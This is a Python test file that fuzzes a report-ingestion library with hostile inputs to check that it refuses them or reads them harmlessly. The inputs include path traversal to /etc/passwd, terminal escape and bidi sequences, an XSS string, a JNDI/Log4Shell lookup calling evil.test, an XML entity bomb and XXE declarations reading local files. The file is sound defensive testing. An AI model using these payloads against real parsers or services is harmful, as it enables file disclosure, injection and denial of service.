"""One set of hostile values and documents for every format: each gives evidence or a sentence, and nothing
that a path, a page or a comment could be led astray by.
"""

import json
import re
import time
from collections.abc import Iterator
from decimal import Decimal
from xml.sax.saxutils import escape

import pytest

from app.model import AuthorFault, Kind, ReportContent, ReportSpec
from app.reports import FORMATS, ReadContext, formats, ingest
from app.reports.text import has_controls
from tests.unit.reports.reading import SAMPLES
from tests.unit.reports.test_ingest import EXPECTED

ESCAPES = "\x1b[31mred\x1b[0m \x1b]8;;https://evil.test\x07link\x1b]8;;\x07 \x9b1m"
HOSTILE = {
    "upwards": "../../../etc/passwd",
    "upwards inside": "src/../../etc/passwd",
    "upwards encoded": "%2e%2e/%2E%2E/etc/passwd",
    "absolute": "/etc/passwd",
    "absolute beneath the root": "/workspace/../etc/passwd",
    "a file address": "file:///etc/passwd",
    "a file address of a host": "file://server/share/x.py",
    "a drive": "C:\\Windows\\system32\\x.py",
    "a drive with slashes": "c:/Windows/x.py",
    "a share": "\\\\server\\share\\x.py",
    "backslashes upwards": "..\\..\\etc\\passwd",
    "nul": "src/a\0.py",
    "controls": f"src/a{ESCAPES}.py\r\n::error::x",
    "bidi": "src/\u202egpj.exe\u2066\u2069.py",
    "surrogates": "src/\ud800.py",
    "markup": "<script>alert(1)</script> ![x](https://evil.test/x) @everyone #1 `x` |",
    "long": "a/" * 5_000,
    "blank": "",
    "a number": "9" * 400,
    "not a number": "NaN",
    "without end": "-Infinity",
    "large": "1e999",
    "negative": "-1",
    "a template": "${jndi:ldap://evil.test/x} {{7*7}} {0} %s %n",
}
NUMBERS = ["9" * 400, "1e999", "-1", "-0.5", "9223372036854775808", "NaN", "Infinity", "-Infinity", "1e-999"]
CONTEXT = ReadContext(
    tree_paths=lambda: {"a.py", "src/shop/prices.py", "etc/passwd", "server/share/x.py"},
    sources=lambda path: b"one = 'a line of some length'\ntwo\n" if path.endswith(".py") else None,
)
RAW = {name: (SAMPLES / name).read_bytes() for name in EXPECTED}
XML = {"junit", "cobertura", "jacoco", "clover", "checkstyle", "cpd"}
_DRIVE = re.compile(r"[A-Za-z]:[\\/]")


def paths(read: ReportContent) -> Iterator[str]:
    """Every path that is kept of a report."""
    for part in (read.findings, read.tests, read.coverage, read.functions, read.packages):
        yield from (one.path for one in part)
    yield from (block.path for clone in read.clones for block in clone.blocks)
    yield from read.sizes
    yield from read.roots


def texts(read: ReportContent) -> Iterator[str]:
    """Every text that people are shown."""
    for finding in read.findings:
        yield from (finding.tool, finding.rule, finding.message, finding.rule_url, finding.fingerprint)
    for test in read.tests:
        yield from (test.name, test.classname, test.message, test.output)
    for function in read.functions:
        yield function.name
    for package in read.packages:
        yield from (package.name, package.version, package.purl, package.licence)
    yield from (measure.metric for measure in read.measures)
    yield from (read.tool, read.tool_version, *read.dropped)


def settled(content: bytes, name: str) -> str:
    """Read or refused, and harmless either way; the sentence of the refusal."""
    try:
        read = ingest(content, ReportSpec(path="out/x", format=name), context=CONTEXT)
    except AuthorFault as refused:
        fault = refused
    else:
        harmless(read)
        return ""
    assert fault.message
    assert fault.message.isprintable()
    assert fault.hint.isprintable()
    assert len(fault.message) < 1_000
    return fault.message


def harmless(read: ReportContent) -> None:
    """No path leads outside, no text does more than be read, no number is out of its range."""
    for path in paths(read):
        assert not path.startswith(("/", "\\", "~"))
        assert not _DRIVE.match(path)
        assert ".." not in path.split("/")
        assert not has_controls(path)
        assert len(path) < 5_000
    for text in texts(read):
        assert not has_controls(text.replace("\n", "").replace("\t", ""))
        assert len(text) < 20_000
        text.encode()
    for finding in read.findings:
        assert finding.rule_url.startswith(("", "http://", "https://"))
        assert 0 <= finding.line <= 10_000_000
        assert 0 <= finding.effort <= 1_000_000
    for test in read.tests:
        assert 0 <= test.seconds < 1e9
    for measure in read.measures:
        assert measure.value.is_finite()
        assert abs(measure.value) < Decimal("1e130")
    for file in read.coverage:
        assert all(line > 0 and 0 <= hits <= 2**53 for line, hits in file.lines.items())
        assert all(0 <= covered <= total for covered, total in file.branches.values())


def keys(value: object) -> set[str]:
    """The keys anywhere whose value is a text, or a list of texts."""
    match value:
        case dict():
            own = {key for key, inner in value.items() if isinstance(inner, str) or _listed(inner)}
            return own.union(*(keys(inner) for inner in value.values()))
        case list():
            return set().union(*(keys(inner) for inner in value))
        case _:
            return set()


def _listed(value: object) -> bool:
    return isinstance(value, list) and bool(value) and all(isinstance(one, str) for one in value)


def changed(value: object, key: str, text: str) -> object:
    """The same with another text under this key, wherever it stands."""
    match value:
        case dict():
            return {
                name: (
                    text
                    if isinstance(inner, str)
                    else [text]
                    if _listed(inner)
                    else changed(inner, key, text)
                )
                if name == key
                else changed(inner, key, text)
                for name, inner in value.items()
            }
        case list():
            return [changed(inner, key, text) for inner in value]
        case _:
            return value


def documents(name: str) -> list[object] | None:
    """The JSON values of a sample: one, or one per line; None if it is no JSON."""
    try:
        return [json.loads(RAW[name])]
    except ValueError:
        pass
    try:
        return [json.loads(line) for line in RAW[name].splitlines() if line.startswith(b"{")] or None
    except ValueError:
        return None


JSON = sorted(name for name in RAW if documents(name) is not None)
MARKED = sorted(name for name in RAW if EXPECTED[name] in XML)
PLAIN = sorted(RAW.keys() - set(JSON) - set(MARKED))


def test_the_set_is_for_every_format():
    assert {EXPECTED[name] for name in (*JSON, *MARKED, *PLAIN)} == set(formats())
    assert {EXPECTED[name] for name in MARKED} >= XML


@pytest.mark.parametrize("name", JSON)
def test_texts_of_json(name):
    found = documents(name)
    assert found is not None
    for key in sorted(keys(found)):
        for text in HOSTILE.values():
            lines = [json.dumps(one) for one in changed(found, key, text)]
            settled("\n".join(lines).encode("utf-8", "surrogatepass"), EXPECTED[name])


@pytest.mark.parametrize("name", JSON)
def test_names_of_files_that_are_keys_of_json(name):
    found = documents(name)
    assert found is not None
    for text in HOSTILE.values():
        for path in ("src/shop/prices.py", "deploy/settings.env"):
            lines = "\n".join(json.dumps(one) for one in found)
            settled(lines.replace(json.dumps(path), json.dumps(text)).encode(), EXPECTED[name])


@pytest.mark.parametrize("name", JSON)
def test_numbers_of_json(name):
    text = RAW[name].decode()
    for key in sorted(set(re.findall(r'"(\w{1,40})":\s*-?\d', text))):
        for number in NUMBERS:
            settled(re.sub(rf'("{key}":\s*)-?[\d.]+', rf"\g<1>{number}", text).encode(), EXPECTED[name])


@pytest.mark.parametrize("name", MARKED)
def test_attributes_and_texts_of_xml(name):
    text = RAW[name].decode()
    for key in sorted(set(re.findall(r'\s([\w-]{1,40})=["\']', text))):
        for hostile in (*HOSTILE.values(), *NUMBERS):
            value = escape(hostile, {'"': "&quot;"})
            spoilt = re.sub(rf"(\s{key}=)(\"[^\"]*\"|'[^']*')", lambda at, v=value: f'{at[1]}"{v}"', text)
            settled(spoilt.encode("utf-8", "replace"), EXPECTED[name])
    for hostile in HOSTILE.values():
        value = escape(hostile)
        spoilt = re.sub(r">([^<>]*\w[^<>]*)<", lambda _at, v=value: f">{v}<", text)
        settled(spoilt.encode("utf-8", "replace"), EXPECTED[name])


@pytest.mark.parametrize("name", PLAIN)
def test_words_of_lines(name):
    """Each word of the first lines in turn, each number everywhere."""
    text = RAW[name].decode()
    words = sorted(set(re.findall(r"[\w./-]{2,80}", text[:1_500])))
    for word in words:
        for hostile in HOSTILE.values():
            settled(text.replace(word, hostile).encode("utf-8", "surrogatepass"), EXPECTED[name])
    for number in NUMBERS:
        settled(re.sub(r"\b\d+\b", number, text).encode(), EXPECTED[name])


@pytest.mark.parametrize("name", sorted(RAW))
def test_encodings(name):
    content = RAW[name]
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037"):
        settled(content.decode().encode(codec, "replace"), EXPECTED[name])
    settled(content.decode().encode("utf-8-sig"), EXPECTED[name])
    middle = len(content) // 2
    for piece in (
        b"\xff",
        b"\xc3\x28",
        b"\xed\xa0\x80",
        b"\0",
        b"\xf4\x90\x80\x80",
        b"\x1b",
        b"\xef\xbb\xbf",
    ):
        for at in (0, middle, len(content)):
            settled(content[:at] + piece + content[at:], EXPECTED[name])


@pytest.mark.parametrize("name", sorted(RAW))
def test_a_mark_of_the_byte_order_changes_nothing(name):
    spec = ReportSpec(path="out/x")
    marked = ingest(b"\xef\xbb\xbf" + RAW[name], spec, context=CONTEXT)
    assert marked == ingest(RAW[name], spec, context=CONTEXT)


BOMB = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha" * 10}">' for n in range(9))
DOCTYPES = {
    "a bomb of entities": (f"<!DOCTYPE x [{BOMB}]>", "&e8;"),
    "one large entity": (f'<!DOCTYPE x [<!ENTITY e "{"a" * 100_000}">]>', "&e;" * 10_000),
    "a local file": ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"),
    "an address": ('<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:1/x">]>', "&e;"),
    "a parameter entity": ('<!DOCTYPE x [<!ENTITY % e SYSTEM "http://127.0.0.1:1/x"> %e;]>', ""),
    "attributes by default": ('<!DOCTYPE x [<!ATTLIST x name CDATA "a">]>', ""),
}


@pytest.mark.parametrize("name", MARKED)
@pytest.mark.parametrize("kind", DOCTYPES)
def test_declarations_in_xml_are_refused(name, kind):
    doctype, reference = DOCTYPES[kind]
    text = re.sub(r"<!DOCTYPE[^>]*>|<\?xml[^>]*\?>", "", RAW[name].decode())
    text = doctype + re.sub(r"</(\w+)>\s*\Z", lambda at: f"{reference}</{at[1]}>", text)
    refusal = settled(text.encode(), EXPECTED[name])
    # Behind a very long declaration nobody looks for the root element.
    assert "a DOCTYPE with declarations of its own" in refusal or "its root element is ''" in refusal


@pytest.mark.parametrize("name", MARKED)
def test_an_external_doctype_is_never_fetched(name):
    text = re.sub(r"<!DOCTYPE[^>]*>|<\?xml[^>]*\?>", "", RAW[name].decode())
    doctype = '<!DOCTYPE x PUBLIC "-//X//X" "http://127.0.0.1:1/x.dtd">'
    plain = ingest(text.encode(), ReportSpec(path="out/x"), context=CONTEXT)
    assert ingest((doctype + text).encode(), ReportSpec(path="out/x"), context=CONTEXT) == plain


@pytest.mark.parametrize("name", [entry.name for entry in FORMATS if entry.name not in XML])
@pytest.mark.parametrize("opening", ["[", '{"a":', '{"runs":[', '[{"x":', '{"results":{"a":['])
def test_deep_json(name, opening):
    for depth in (200, 20_000, 400_000):
        settled((opening * depth).encode(), name)
        settled((opening * depth + "1" + "]" * depth).encode(), name)


REPEATED = [
    *((piece, "") for piece in ("#", " ", "\t", "\\", '"', "<", "&", "[", "::", "not ok ", "1..", "%")),
    *((piece, "") for piece in ("a:1.1,", "\r", "---\n")),
    *((" #", start) for start in ("1..1\nnot ok 1 ", "SF:", "mode: set\n", "::error file=", '{"a":"')),
    (" #", "<testsuite><!--"),
]


@pytest.mark.parametrize("name", [entry.name for entry in FORMATS])
def test_many_of_the_same_thing_take_time_as_they_are_many(name):
    """A careless pattern tries things in a number of ways that grows with their square."""

    def seconds(piece: str, start: str, length: int) -> float:
        content = (start + piece * (length // len(piece))).encode()
        started = time.process_time()
        settled(content, name)
        return time.process_time() - started

    for piece, start in REPEATED:
        assert seconds(piece, start, 200_000) < 4 * seconds(piece, start, 100_000) + 1, (piece, start)


def test_no_secret_is_told_by_a_refusal():
    """The sentence quotes the report; of one declared to hold secrets it must not."""
    for entry in FORMATS:
        if entry.kind is not Kind.SECRETS:
            continue
        for content in (
            b'[{"RuleID": "hunter2-secret"',
            b'{"results": {"a": [{"hashed_secret": "hunter2"}]}}',
        ):
            with pytest.raises(AuthorFault) as caught:
                ingest(content, ReportSpec(path="out/x", format=entry.name), context=CONTEXT)
            assert "hunter2" not in caught.value.message
